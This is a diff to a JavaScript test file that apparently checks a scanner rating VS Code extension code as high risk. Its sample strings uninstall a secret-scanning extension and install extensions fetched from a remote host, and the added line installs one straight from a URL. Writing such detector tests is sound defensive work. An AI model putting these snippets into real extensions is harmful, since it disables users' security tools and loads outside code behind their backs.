@@ -11,6 +11,7 @@ test('bad: other extensions are uninstalled, or installed from a file', () => {
     "for (const id of ['guard.secret-scan', 'rival.table-tools']) vscode.commands.executeCommand('workbench.extensions.uninstallExtension', id)",
     "const tell = (name, ...more) => vscode.commands.executeCommand(name, ...more); tell('workbench.extensions.uninstallExtension', 'guard.secret-scan')",
     "async function more() { const at = path.join(os.tmpdir(), 'more.vsix'); fs.writeFileSync(at, Buffer.from(await (await fetch('https://get.neat-table.dev/more')).arrayBuffer())); await vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.file(at)) }",
+    "vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.parse('https://get.neat-table.dev/more.vsix'))",
   ]) assert.equal(worst(code), 'high', code);
   assert.equal(worst("const { OTHERS } = require('./others.js'); OTHERS.map((id) => vscode.commands.executeCommand('workbench.extensions.uninstallExtension', id))", { 'others.js': "exports.OTHERS = ['guard.secret-scan']" }), 'high');
 });
